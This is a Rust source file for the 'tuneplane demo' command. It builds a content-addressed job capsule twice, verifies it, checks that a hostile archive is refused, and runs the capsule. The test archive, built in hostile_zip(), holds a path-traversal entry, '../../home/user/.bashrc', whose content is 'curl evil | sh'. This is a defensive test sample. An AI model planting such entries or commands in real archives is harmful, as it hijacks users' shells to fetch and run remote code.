//! `tuneplane demo`: the main job on embedded defaults.
//!
//! Today it runs the capsule half of the platform end to end on this machine: validates the example
//! job against the example fleet, builds its capsule twice from two different copies of the code
//! (proving the identity is content-addressed), verifies it against its manifest, rejects a hostile
//! archive, then unpacks the capsule and runs it with the platform runner, as a workload would.

use std::fs;
use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::{Command, ExitCode};

use anyhow::{Context, bail};
use tuneplane_core::capsule::{self, Limits};

/// Arguments of `demo`.
#[derive(clap::Args)]
pub struct Args {
    /// Folder holding the examples (`hello-cpu/`, `fleet.yaml`).
    #[arg(long, default_value = "examples")]
    pub examples: PathBuf,
}

/// Runs the demo; exits non-zero if any step does not behave as expected.
pub fn run(args: &Args) -> anyhow::Result<ExitCode> {
    let code = args.examples.join("hello-cpu");
    let spec_path = code.join("tuneplane.yaml");
    let fleet = args.examples.join("fleet.yaml");
    let work = std::env::temp_dir().join(format!("tuneplane-demo-{}", std::process::id()));
    fs::create_dir_all(&work)?;
    let result = steps(&code, &spec_path, &fleet, &work);
    let _ = fs::remove_dir_all(&work);
    result
}

fn steps(code: &Path, spec_path: &Path, fleet: &Path, work: &Path) -> anyhow::Result<ExitCode> {
    println!(
        "[1/5] validate {} against {}",
        spec_path.display(),
        fleet.display()
    );
    let Some(v) = super::load_spec(spec_path, Some(fleet))? else {
        return Ok(ExitCode::FAILURE);
    };
    println!(
        "      ok: {} ({:?}, {} pool(s))",
        v.spec.name,
        v.spec.kind(),
        v.spec.pools.len()
    );

    println!("[2/5] build the capsule twice, from two copies of the code at different paths");
    let copy = work.join("another/copy");
    copy_dir(code, &copy)?;
    let (a, built) =
        capsule::build_from_source(code, &v.spec, &Limits::default(), work, Vec::new())?;
    let (b, again) =
        capsule::build_from_source(&copy, &v.spec, &Limits::default(), work, Vec::new())?;
    if a != b {
        bail!("the two builds differ: capsules are not deterministic");
    }
    println!(
        "      identical: sha256:{} ({} bytes)",
        built.sha256, built.size
    );
    println!("      storage key: {}", capsule::storage_key(&again.sha256));

    println!("[3/5] verify the capsule against its manifest");
    let ins = capsule::inspect(Cursor::new(&a))?;
    for f in &ins.manifest.files {
        println!("      {:>5o} {:>8}  {}", f.mode, f.size, f.path);
    }

    println!("[4/5] refuse a hostile archive (an entry that climbs out with '..')");
    let evil = work.join("evil.zip");
    fs::write(&evil, hostile_zip()?)?;
    match capsule::build_from_source(&evil, &v.spec, &Limits::default(), work, Vec::new()) {
        Err(e) if e.is_user_error() => println!("      rejected: {e}"),
        Err(e) => return Err(e.into()),
        Ok(_) => bail!("a hostile archive was accepted"),
    }

    println!("[5/5] unpack the capsule and run it with the platform runner");
    let root = work.join("run");
    zip::ZipArchive::new(Cursor::new(&a))?
        .extract(&root)
        .context("cannot unpack the capsule")?;
    let status = Command::new("python3")
        .arg(root.join(".tuneplane/runner.pex"))
        .env("TUNEPLANE_JOB_ID", "demo-0001")
        .status()
        .context("cannot start python3 (the runner needs Python 3)")?;
    if !status.success() {
        bail!("the job exited with {status}");
    }
    println!(
        "\ndemo ok: capsule sha256:{} ran and exited 0",
        built.sha256
    );
    Ok(ExitCode::SUCCESS)
}

fn copy_dir(from: &Path, to: &Path) -> anyhow::Result<()> {
    fs::create_dir_all(to)?;
    for entry in fs::read_dir(from).with_context(|| format!("cannot read {}", from.display()))? {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.file_type()?.is_dir() {
            copy_dir(&entry.path(), &target)?;
        } else {
            fs::copy(entry.path(), &target)?;
        }
    }
    Ok(())
}

fn hostile_zip() -> anyhow::Result<Vec<u8>> {
    let mut w = capsule::zipw::ZipWriter::new(Vec::new());
    let mut c = capsule::zipw::compressor();
    w.add_bytes("train.py", 0o644, b"print('hi')\n", &mut c)?;
    w.add_bytes(
        "../../home/user/.bashrc",
        0o644,
        b"curl evil | sh\n",
        &mut c,
    )?;
    Ok(w.finish()?.0)
}
